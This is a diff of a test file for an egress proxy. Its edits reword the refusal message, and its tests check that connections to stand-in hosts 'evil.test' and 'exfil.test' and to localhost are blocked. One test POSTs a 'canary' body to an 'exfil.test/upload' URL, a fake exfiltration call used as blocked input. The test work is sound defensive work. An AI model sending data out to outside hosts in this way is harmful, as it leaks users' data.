@@ -249,17 +249,17 @@ describe('the egress proxy', () => {
     expect(tunnel.status).toBe(403);
     const body = await readToEnd(tunnel.socket, tunnel.head);
     expect(body).toContain('evil.test:443');
-    expect(body).toContain('not in allowed-domains');
+    expect(body).toContain('not allowed for this run');
 
     const answer = await httpThrough(p, 'http://exfil.test/upload', { method: 'POST', body: 'canary' });
     expect(answer.status).toBe(403);
     expect(answer.body).toContain('exfil.test:80');
-    expect(answer.body).toContain('not in allowed-domains');
+    expect(answer.body).toContain('not allowed for this run');
 
     const refusals = p.refusals();
     expect(refusals.map(({ host, port, reason }) => ({ host, port, reason }))).toEqual([
-      { host: 'evil.test', port: 443, reason: 'not in allowed-domains' },
-      { host: 'exfil.test', port: 80, reason: 'not in allowed-domains' },
+      { host: 'evil.test', port: 443, reason: 'not allowed for this run' },
+      { host: 'exfil.test', port: 80, reason: 'not allowed for this run' },
     ]);
     for (const r of refusals) expect(typeof r.at).toBe('number');
   });
@@ -268,7 +268,7 @@ describe('the egress proxy', () => {
     const p = await start();
     const tunnel = await connectThrough(p, `127.0.0.1:${echoPort}`);
     expect(tunnel.status).toBe(403);
-    expect(await readToEnd(tunnel.socket, tunnel.head)).toContain('not in allowed-domains');
+    expect(await readToEnd(tunnel.socket, tunnel.head)).toContain('not allowed for this run');
     expect(p.refusals().map((r) => r.host)).toEqual(['127.0.0.1']);
   });
 
